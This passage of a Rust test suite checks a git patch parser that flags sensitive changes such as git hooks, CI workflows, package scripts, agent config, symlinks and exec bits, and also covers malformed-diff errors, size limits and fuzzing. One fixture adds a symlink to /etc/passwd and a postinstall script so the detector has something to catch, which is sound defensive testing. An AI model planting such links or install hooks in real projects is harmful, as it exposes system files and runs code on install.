        ("diff --git a/x b/y\nold mode 100644\nnew mode 100755\n", "cannot tell the file name"),
        ("diff --git a/x b/x\nold mode 100755\nnew mode 100755\n", "are the same"),
        ("diff --git a/x b/x\nold mode 100644\n", "come together"),
        ("diff --git a/x b/x\nnew file mode 100644\nnew file mode 100755\n", "a second 'new file mode'"),
        ("diff --git a/x b/x\nnew file mode 100644\ndeleted file mode 100644\n", "both create and delete"),
        ("diff --git a/x b/x\nnew mode 100755\nold mode 100644\nnew file mode 100755\n", "cannot also change mode"),
        ("diff --git a/x b/x\nold mode 100644\nnew mode 100777\n", "invalid mode"),
        ("diff --git a/x b/x\nindex 1111111..2222222\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", "states no mode"),
        ("diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", "states no mode"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n", "changes nothing"),
        ("diff --git a/x b/x\n", "changes nothing"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1,2 +1 @@\n-a\n+b\n+c\n", "more lines than its header says"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n a\n b\n", "changes nothing"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n a\n\n-b\n+c\n", "is not a hunk line"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1,2 +1 @@\n-a\n\\ No newline at end of file\n-b\n+c\n", "after the one marked"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n\\ No newline at end of file\n-a\n+b\n", "follows no line"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n\\\n", "misplaced"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -5 +5 @@\n-a\n+b\n@@ -2 +2 @@\n-a\n+b\n", "out of order"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1 +1 @@ x\n-a\n+b\n@@ -1,99999999999999999999 +1 @@\n", "invalid hunk header"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n", "without a hunk"),
        ("diff --git a/x b/x\nnew file mode 100644\nindex 0000000..2222222\n--- a/x\n+++ b/x\n@@ -0,0 +1 @@\n+b\n", "must be /dev/null"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+b\n", "without 'new file mode'"),
        ("diff --git a/x b/x\nnew file mode 100644\nindex 0000000..2222222\n--- /dev/null\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", "must start at -0,0"),
        ("diff --git a/x b/y\nsimilarity index 100%\nrename from x\n", "come in pairs"),
        ("diff --git a/x b/x\nsimilarity index 100%\nrename from x\nrename to x\n", "two different paths"),
        ("diff --git a/x b/y\nsimilarity index 101%\nrename from x\nrename to y\n", "invalid similarity"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\nGIT binary patch\nliteral 3\nnot base85!\n\n", "binary patch data"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\nGIT binary patch\nliteral 3\n\n", "without data"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\nGIT binary patch\nliteral 5\nMcmZQzO3KUw00MIXJOBUy\n", "closing empty line"),
        ("diff --git a/x b/x\ndiff --cc x\n", "unexpected line"),
        ("diff --git a/x b/x\nold mode 100644\nnew mode 100755\n\n", "unexpected line in the file entry"),
        ("diff --git a/x b/x\nold mode 100644\nnew mode 100755", "does not end with a newline"),
    ];
    for (patch, expect) in cases {
        let (_, why) = malformed_reason(patch.as_bytes());
        assert!(
            why.contains(expect),
            "expected {expect:?}, got {why:?} for\n{patch}"
        );
    }
    // Line numbers point at the offending line.
    let (line, _) = malformed_reason(format!("{ok_entry}+sneaky\n").as_bytes());
    assert_eq!(line, 8);
}

#[test]
fn oversize_patches_are_refused_with_the_limit() {
    let patch = b"diff --git a/x b/x\nold mode 100644\nnew mode 100755\n";
    let err = summarize(patch, 10, &no_baseline).unwrap_err();
    assert!(
        matches!(
            err,
            PatchError::TooLarge {
                size: 51,
                limit: 10
            }
        ),
        "{err:?}"
    );
    assert_eq!(
        err.to_string(),
        "the diff is 51 bytes, over the 10-byte limit; remove generated or large files from \
         /workspace, or add them to .gitignore"
    );
    let err = PatchError::TooLarge {
        size: 70_000_000,
        limit: DEFAULT_MAX_PATCH_BYTES,
    };
    assert!(err
        .to_string()
        .starts_with("the diff is 70000000 bytes, over the 64 MiB limit; "));
    assert!(summarize(patch, patch.len(), &no_baseline).is_ok());
}

#[test]
fn summary_serializes_as_the_contract_says() {
    let patch = b"diff --git a/x.sh b/x.sh\nold mode 100644\nnew mode 100755\n";
    let summary = summarize(patch, DEFAULT_MAX_PATCH_BYTES, &no_baseline).unwrap();
    let json = serde_json::to_value(&summary).unwrap();
    assert_eq!(
        json,
        serde_json::json!({
            "files": 1, "additions": 0, "deletions": 0,
            "sensitivePaths": [{ "path": "x.sh", "kind": "exec-bit", "reason": "mode 100644 → 100755" }]
        })
    );
    let kinds = [
        (SensitiveKind::GitHook, "git-hook"),
        (SensitiveKind::GitConfig, "git-config"),
        (SensitiveKind::CiWorkflow, "ci-workflow"),
        (SensitiveKind::PackageScript, "package-script"),
        (SensitiveKind::AgentConfig, "agent-config"),
        (SensitiveKind::Symlink, "symlink"),
        (SensitiveKind::ExecBit, "exec-bit"),
    ];
    for (kind, name) in kinds {
        assert_eq!(serde_json::to_value(kind).unwrap(), name);
    }
    let back: DiffSummary = serde_json::from_value(json).unwrap();
    assert_eq!(back, summary);
}

#[test]
fn hunks_apply_exactly_or_not_at_all() {
    let patch = b"diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n\
                  @@ -1,2 +1,2 @@\n a\n-b\n+B\n@@ -4 +4,2 @@\n-d\n\\ No newline at end of file\n+D\n+e\n";
    let files = parse(patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
    let lines: Vec<HunkLine<'_>> = files[0].hunks[1].lines().collect();
    assert_eq!(
        lines,
        [
            HunkLine {
                kind: LineKind::Removed,
                content: b"d",
                newline: false
            },
            HunkLine {
                kind: LineKind::Added,
                content: b"D",
                newline: true
            },
            HunkLine {
                kind: LineKind::Added,
                content: b"e",
                newline: true
            },
        ]
    );
    assert_eq!(
        apply_hunks(b"a\nb\nc\nd", &files[0].hunks).unwrap(),
        b"a\nB\nc\nD\ne\n"
    );
    assert!(apply_hunks(b"a\nb\nc\nd\n", &files[0].hunks).is_err());
    assert!(apply_hunks(b"a\nX\nc\nd", &files[0].hunks).is_err());
    assert!(apply_hunks(b"a\nb\n", &files[0].hunks).is_err());
}

// ---------------------------------------------------------------------------------------------
// Robustness: truncated and mangled input never panics.

fn rich_patch() -> Vec<u8> {
    let fx = Fixture::new(
        |r| {
            write(r, "a.txt", numbered(40));
            write(r, "bin", b"\x00\x01\x02");
            link(r, "t", "link");
            write(r, "package.json", "{\"scripts\": {}}\n");
            write(r, "ren", numbered(10));
        },
        |r| {
            write(
                r,
                "a.txt",
                numbered(40)
                    .replace("line 3\n", "3\n")
                    .replace("line 33\n", ""),
            );
            write(r, "bin", b"\x00\x01\x02\x03");
            link(r, "/etc/passwd", "link");
            write(
                r,
                "package.json",
                "{\"scripts\": {\"postinstall\": \"x\"}}\n",
            );
            write(r, "sp ace/é", "new");
            fs::rename(r.join("ren"), r.join("renamed")).unwrap();
            set_mode(r, "renamed", 0o755);
        },
    );
    let patch = fx.patch(&["-M"]);
    fx.summary(&["-M"]);
    patch
}

#[test]
fn truncated_patches_fail_cleanly() {
    let patch = rich_patch();
    for cut in 0..patch.len() {
        let part = &patch[..cut];
        let result = summarize(part, DEFAULT_MAX_PATCH_BYTES, &no_baseline);
        if cut > 0 && patch[cut - 1] != b'\n' {
            assert!(result.is_err(), "cut at {cut} accepted");
        }
    }
    // Cut inside a hunk: the counts say more lines are due.
    let mid_hunk = patch.windows(5).position(|w| w == b"-line").unwrap();
    let (_, why) = malformed_reason(&patch[..mid_hunk]);
    assert!(why.contains("ends early"), "{why}");
}

/// A small deterministic PRNG (xorshift64*), so failures reproduce.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: usize) -> usize {
        usize::try_from(self.next() % u64::try_from(n.max(1)).unwrap()).unwrap()
    }
}

#[test]
fn mangled_patches_never_panic() {
    let patch = rich_patch();
    let lines: Vec<&[u8]> = patch.split_inclusive(|&b| b == b'\n').collect();
    let inserts: &[&[u8]] = &[
        b"diff --git a/x b/x\n",
        b"diff --git \"a/\\303\" \"b/\\303\"\n",
        b"diff --git \"a/x\n",
        b"@@ -1 +1 @@\n",
        b"@@ -0,0 +18446744073709551615 @@\n",
        b"\\ No newline at end of file\n",
        b"--- /dev/null\n",
        b"+++ b/x\t\n",
        b"new file mode 120000\n",
        b"old mode 100644\n",
        b"rename from \"\\\n",
        b"GIT binary patch\n",
        b"literal 99999999999999999999999\n",
        b"zzzzz\n",
        b"\n",
        b"+\n",
        b"-\n",
        b" \n",
    ];
    let baseline = |path: &str| -> Option<Vec<u8>> {
        (path == "package.json").then(|| b"{\"scripts\": {}}\n".to_vec())
    };
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    for _ in 0..20_000 {
        let mut mangled: Vec<Vec<u8>> = lines.iter().map(|l| l.to_vec()).collect();
        for _ in 0..=rng.below(3) {
            let at = rng.below(mangled.len());
            match rng.below(5) {
                0 => {
                    mangled.remove(at);
                }
                1 => mangled.insert(at, inserts[rng.below(inserts.len())].to_vec()),
                2 => {
                    let line = mangled[at].clone();
                    mangled.insert(at, line);
                }
                3 => {
                    if let Some(byte) = mangled.get_mut(at).and_then(|l| {
                        let i = rng.below(l.len());
                        l.get_mut(i)
                    }) {
                        *byte = u8::try_from(rng.below(256)).unwrap();
                    }
                }
                _ => mangled.truncate(at),
            }
            if mangled.is_empty() {
                break;
            }
        }
        let input = mangled.concat();
        if let Ok(summary) = summarize(&input, DEFAULT_MAX_PATCH_BYTES, &baseline) {
            let max_lines = u64::try_from(input.len()).unwrap();
            assert!(summary.additions + summary.deletions <= max_lines);
            for entry in &summary.sensitive_paths {
                assert!(!entry.reason.chars().any(char::is_control));
                assert!(entry.reason.chars().count() <= 500);
            }
        }
    }
    // Pure garbage, too.
    for len in [1usize, 7, 64, 4096] {
        let garbage: Vec<u8> = (0..len)
            .map(|_| u8::try_from(rng.below(256)).unwrap())
            .collect();
        let _ = summarize(&garbage, DEFAULT_MAX_PATCH_BYTES, &no_baseline);
    }
}
